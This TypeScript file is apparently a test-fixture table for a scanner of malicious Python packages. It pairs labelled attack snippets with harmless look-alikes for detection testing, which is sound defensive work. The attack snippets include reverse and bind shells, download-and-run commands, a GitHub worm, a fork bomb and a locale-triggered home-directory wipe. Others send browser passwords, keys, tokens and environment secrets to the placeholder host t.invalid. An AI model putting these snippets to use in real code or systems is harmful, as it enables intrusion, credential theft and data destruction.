/* eslint max-lines: off -- one table */
/** More behaviours and honest neighbours of them. All inert. */
import type { Shape } from './malicious.js';

function lines(...all: readonly string[]): string {
  return `${all.join('\n')}\n`;
}

export const moreBehaviours: readonly Shape[] = [
  {
    name: 'a start-up module is written',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import site, os',
        'open(os.path.join(site.getusersitepackages(), "usercustomize.py"), "w").write("print(1)")',
      ),
    },
  },
  {
    name: 'pth written into site-packages',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import site, os',
        'with open(os.path.join(site.getsitepackages()[0], "zz.pth"), "w") as f:',
        '    f.write("import os; print(1)\\n")',
      ),
    },
  },
  {
    name: "other library's file appended",
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import requests, os',
        'p = os.path.join(os.path.dirname(requests.__file__), "sessions.py")',
        'open(p, "a").write("\\nprint(1)\\n")',
      ),
    },
  },
  {
    name: 'vs code tasks',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import os, json',
        'open(os.path.expanduser("~/proj/.vscode/tasks.json"), "w").write(json.dumps({"runOptions": {"runOn": "folderOpen"}}))',
      ),
    },
  },
  {
    name: 'fork bomb',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines('import os', 'while True:', '    os.fork()'),
    },
  },
  {
    name: 'worm through GitHub',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import os, requests',
        't = os.environ.get("GITHUB_TOKEN")',
        'for r in requests.get("https://api.github.com/user/repos", headers={"Authorization": "token " + t}).json():',
        '    requests.put("https://api.github.com/repos/" + r["full_name"] + "/contents/.github/workflows/x.yml", headers={"Authorization": "token " + t}, json={"content": "eA=="})',
      ),
    },
  },
  {
    name: 'split executable',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import os, subprocess, tempfile',
        'd = os.path.dirname(__file__)',
        'p = os.path.join(tempfile.gettempdir(), "svc.exe")',
        'with open(p, "wb") as o:',
        '    for n in ("a.bin", "b.bin", "c.bin"):',
        '        o.write(open(os.path.join(d, n), "rb").read())',
        'subprocess.Popen([p])',
      ),
    },
  },
  {
    name: 'rmtree when the country fits',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import locale, shutil, os',
        'if locale.getdefaultlocale()[0].startswith("ru"):',
        '    shutil.rmtree(os.path.expanduser("~"))',
      ),
    },
  },
  {
    name: 'keychain by security',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import subprocess, requests',
        'o = subprocess.check_output(["security", "find-generic-password", "-ga", "Chrome"])',
        'requests.post("https://t.invalid", data=o)',
      ),
    },
  },
  {
    name: 'gh auth token',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import subprocess, requests',
        'o = subprocess.check_output("gh auth token", shell=True)',
        'requests.post("https://t.invalid", data=o)',
      ),
    },
  },
  {
    name: 'nslookup with data',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import subprocess, os, base64',
        'd = base64.b16encode(open(os.path.expanduser("~/.netrc"), "rb").read()).decode()',
        'subprocess.call(["nslookup", d[:50] + ".t.invalid"])',
      ),
    },
  },
  {
    name: 'dig with host name',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import os, socket',
        'os.system("dig " + socket.gethostname() + ".x.t.invalid")',
      ),
    },
  },
  {
    name: 'ping with whoami',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines('import os', 'os.system("ping -c 1 $(whoami).t.invalid")'),
    },
  },
  {
    name: 'template of request',
    tier: 'review',
    files: {
      'demo/__init__.py': lines(
        'from flask import request, render_template_string, Blueprint',
        'b = Blueprint("x", __name__)',
        '@b.route("/t")',
        'def t():',
        '    return render_template_string(request.args.get("t"))',
      ),
    },
  },
  {
    name: 'certutil',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import subprocess',
        'subprocess.call("certutil -urlcache -f https://t.invalid/a.exe a.exe && a.exe", shell=True)',
      ),
    },
  },
  {
    name: 'bitsadmin',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import os',
        'os.system("bitsadmin /transfer j https://t.invalid/a.exe %TEMP%\\\\a.exe")',
      ),
    },
  },
  {
    name: 'rundll32',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines('import os', 'os.system("rundll32.exe javascript:close()")'),
    },
  },
  {
    name: 'regsvr32',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import os',
        'os.system("regsvr32 /s /n /u /i:https://t.invalid/a.sct scrobj.dll")',
      ),
    },
  },
  {
    name: 'reverse shell in TLS',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import socket, ssl, subprocess',
        's = ssl.wrap_socket(socket.socket())',
        's.connect(("t.invalid", 443))',
        'while True:',
        '    c = s.recv(1024).decode()',
        '    s.send(subprocess.getoutput(c).encode())',
      ),
    },
  },
  {
    name: 'bind shell plain',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import socket, os, subprocess',
        's = socket.socket()',
        's.bind(("0.0.0.0", 4444))',
        's.listen(1)',
        'c, a = s.accept()',
        'while True:',
        '    d = c.recv(1024)',
        '    o = subprocess.run(d, shell=True, capture_output=True)',
        '    c.sendall(o.stdout)',
      ),
    },
  },
  {
    name: 'http polling command',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import urllib.request, subprocess, time',
        'while True:',
        '    c = urllib.request.urlopen("https://t.invalid/c").read().decode()',
        '    o = subprocess.check_output(c, shell=True)',
        '    urllib.request.urlopen("https://t.invalid/r", data=o)',
        '    time.sleep(9)',
      ),
    },
  },
  {
    name: 'memfd',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import os, urllib.request',
        'fd = os.memfd_create("x", 1)',
        'os.write(fd, urllib.request.urlopen("https://t.invalid/e").read())',
        'os.execve("/proc/self/fd/%d" % fd, ["k"], os.environ)',
      ),
    },
  },
  {
    name: 'ptrace shellcode VirtualAlloc',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import ctypes',
        'b = bytes.fromhex("9090909090909090c3")',
        'p = ctypes.windll.kernel32.VirtualAlloc(0, len(b), 0x3000, 0x40)',
        'ctypes.windll.kernel32.RtlMoveMemory(p, b, len(b))',
        'ctypes.windll.kernel32.CreateThread(0, 0, p, 0, 0, 0)',
      ),
    },
  },
  {
    name: 'proc environ',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import glob, requests',
        'for p in glob.glob("/proc/*/environ"):',
        '    requests.post("https://t.invalid", data=open(p, "rb").read())',
      ),
    },
  },
  {
    name: 'env by subprocess env',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import subprocess, requests',
        'requests.post("https://t.invalid", data=subprocess.run(["printenv"], capture_output=True).stdout)',
      ),
    },
  },
  {
    name: 'sandbox check then run',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import os, sys, requests',
        'if not os.path.exists("/.dockerenv") and "pytest" not in sys.modules:',
        '    exec(requests.get("https://t.invalid/x").text)',
      ),
    },
  },
  {
    name: 'wallet files',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import os, glob, requests',
        'for p in glob.glob(os.path.expanduser("~/.config/solana/id.json")):',
        '    requests.post("https://t.invalid", files={"f": open(p, "rb")})',
      ),
    },
  },
  {
    name: 'browser passwords',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import os, shutil, sqlite3, requests',
        'p = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")',
        'shutil.copy(p, "x.db")',
        'r = sqlite3.connect("x.db").execute("select * from logins").fetchall()',
        'requests.post("https://t.invalid", json=r)',
      ),
    },
  },
  {
    name: 'env secret names',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import os, requests',
        'requests.post("https://t.invalid", json={k: v for k, v in os.environ.items() if "KEY" in k or "TOKEN" in k})',
      ),
    },
  },
  {
    name: 'pth in data scheme',
    tier: 'deny',
    files: {
      'demo-1.0.data/data/lib/python3.11/site-packages/z.pth': lines(
        'import base64; exec(base64.b64decode("cHJpbnQoMSlwcmludCgxKQ=="))',
      ),
    },
  },
  {
    name: 'usercustomize in platlib',
    tier: 'deny',
    files: {
      'demo-1.0.data/platlib/usercustomize.py': lines(
        'import os, requests',
        'requests.post("https://t.invalid", json=dict(os.environ))',
      ),
    },
  },
  {
    name: 'setup.cfg attr version',
    tier: 'deny',
    form: 'sdist',
    files: {
      'demo-1.0/setup.cfg': lines('[metadata]', 'version = attr: demo.v.V'),
      'demo-1.0/demo/v.py': lines(
        'import os, requests',
        'requests.post("https://t.invalid", json=dict(os.environ))',
        'V = "1"',
      ),
    },
  },
  {
    name: 'zip import',
    tier: 'review',
    files: {
      'demo/__init__.py': lines(
        'import sys, os',
        'sys.path.insert(0, os.path.join(os.path.dirname(__file__), "data.zip"))',
        'import hidden_mod',
      ),
    },
  },
  {
    name: 'monkeypatch own instrumentation to configurable url',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines(
        'import requests, openai',
        'def wrap(url):',
        '    old = openai.ChatCompletion.create',
        '    def create(*a, **k):',
        '        requests.post(url, json={"m": k.get("model")})',
        '        return old(*a, **k)',
        '    openai.ChatCompletion.create = create',
      ),
    },
  },
  {
    name: 'dotenv loader',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines(
        'import os',
        'def load(p=".env"):',
        '    for l in open(p):',
        '        k, _, v = l.partition("=")',
        '        os.environ[k] = v',
      ),
    },
  },
  {
    name: 'rest client',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines(
        'import requests',
        'class C:',
        '    base = "https://api.t.invalid/v1"',
        '    def __init__(self, api_key, password=None):',
        '        self.s = requests.Session()',
        '        self.s.headers["Authorization"] = api_key',
        '    def get(self, p):',
        '        return self.s.get(self.base + p)',
      ),
    },
  },
  {
    name: 'kube client',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines(
        'import os, yaml, requests',
        'def load():',
        '    c = yaml.safe_load(open(os.path.expanduser("~/.kube/config")))',
        '    return c["clusters"][0]["cluster"]["server"]',
        'def call(p):',
        '    return requests.get(load() + p)',
      ),
    },
  },
  {
    name: 'the token of a kube client goes elsewhere',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import os, yaml, requests',
        'def load():',
        '    c = yaml.safe_load(open(os.path.expanduser("~/.kube/config")))',
        '    return c["users"][0]["user"]["token"]',
        'def call(p):',
        '    return requests.get("https://t.invalid/" + load())',
      ),
    },
  },
  {
    name: 'what is put under the name of an address',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import os, collections, requests',
        'd = collections.defaultdict(str)',
        'd["server"] = open(os.path.expanduser("~/.kube/config")).read()',
        'requests.get("https://t.invalid/" + d["server"])',
      ),
    },
  },
  {
    name: 'keys of many, each read by a function, sent by another file',
    tier: 'deny',
    files: {
      'demo/grab.py': lines(
        'import os',
        'def one(f):',
        '    return open(os.path.expanduser(f)).read()',
        'def grab():',
        '    return [one(f) for f in ("~/.ssh/id_ed25519", "~/.kube/config", "~/.npmrc")]',
      ),
      'demo/ship.py': lines(
        'import urllib.request',
        'def ship(d):',
        '    urllib.request.urlopen("https://t.invalid/c", data=d)',
      ),
    },
  },
  {
    name: 'keys of one, in a loop',
    tier: 'pass',
    files: {
      'demo/keys.py': lines(
        'import os',
        'def keys():',
        '    for f in ("~/.ssh/id_ed25519", "~/.ssh/id_rsa", "~/.ssh/id_ecdsa"):',
        '        yield open(os.path.expanduser(f)).read()',
      ),
      'demo/ask.py': lines(
        'import urllib.request',
        'def ask():',
        '    urllib.request.urlopen("https://t.invalid/c")',
      ),
    },
  },
  {
    name: 'docker config',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines(
        'import json, os, base64, requests',
        'def auth(reg):',
        '    c = json.load(open(os.path.expanduser("~/.docker/config.json")))',
        '    return base64.b64decode(c["auths"][reg]["auth"])',
        'def pull(reg, n):',
        '    return requests.get("https://" + reg + "/v2/" + n, headers={"Authorization": auth(reg)})',
      ),
    },
  },
  {
    name: 'netrc',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines(
        'import netrc, requests',
        'def go(u):',
        '    n = netrc.netrc().authenticators("h")',
        '    return requests.get(u, auth=(n[0], n[2]))',
      ),
    },
  },
  {
    name: 'ssh client',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines(
        'import paramiko, os',
        'def go(h):',
        '    c = paramiko.SSHClient()',
        '    c.connect(h, key_filename=os.path.expanduser("~/.ssh/id_rsa"))',
      ),
    },
  },
  {
    name: 'huggingface token',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines(
        'import os, requests',
        'def token():',
        '    return open(os.path.expanduser("~/.cache/huggingface/token")).read()',
        'def get(u):',
        '    return requests.get(u, headers={"Authorization": "Bearer " + token()})',
      ),
    },
  },
  {
    name: 'platform in user agent',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines(
        'import platform, requests',
        'def get():',
        '    return requests.get("https://api.t.invalid/x", headers={"User-Agent": "x/" + platform.platform()})',
      ),
    },
  },
  {
    name: 'jupyter config init',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines(
        'import os',
        'def install():',
        '    open(os.path.expanduser("~/.jupyter/jupyter_server_config.py"), "a").write("c.x = 1")',
      ),
    },
  },
  {
    name: 'git hook installer',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines(
        'import os',
        'def install(repo):',
        '    with open(os.path.join(repo, ".git", "hooks", "pre-commit"), "w") as f:',
        '        f.write("#!/bin/sh\\nx run\\n")',
      ),
    },
  },
  {
    name: 'server handler',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines(
        'from http.server import BaseHTTPRequestHandler',
        'import subprocess',
        'class H(BaseHTTPRequestHandler):',
        '    def do_GET(self):',
        '        self.wfile.write(subprocess.check_output(["git", "log"]))',
      ),
    },
  },
  {
    name: 'decorators build functions',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines(
        'import types',
        'def deco(f):',
        '    return types.FunctionType(f.__code__, f.__globals__, f.__name__)',
      ),
    },
  },
  {
    name: 'exec namedtuple template',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines(
        'T = "class {n}:\\n    pass\\n"',
        'def make(n):',
        '    ns = {}',
        '    exec(T.format(n=n), ns)',
        '    return ns[n]',
      ),
    },
  },
  {
    name: 'crontab library',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines(
        'import subprocess',
        'class CronTab:',
        '    def write(self):',
        '        p = subprocess.Popen(["crontab", "-"], stdin=subprocess.PIPE)',
        '        p.communicate(self.render())',
      ),
    },
  },
  {
    name: 'launchd library',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines(
        'import os, plistlib',
        'def install(label):',
        '    p = os.path.expanduser("~/Library/LaunchAgents/%s.plist" % label)',
        '    plistlib.dump({}, open(p, "wb"))',
      ),
    },
  },
  {
    name: 'celery-like remote code by pickle',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines(
        'import pickle, zmq',
        'def loop(sock):',
        '    f = pickle.loads(sock.recv())',
        '    f()',
      ),
    },
  },
  {
    name: 'telemetry opt-in function',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines(
        'import platform, uuid, requests',
        'def track(e):',
        '    requests.post("https://telemetry.t.invalid/e", json={"e": e, "os": platform.system(), "v": 1})',
      ),
    },
  },
];
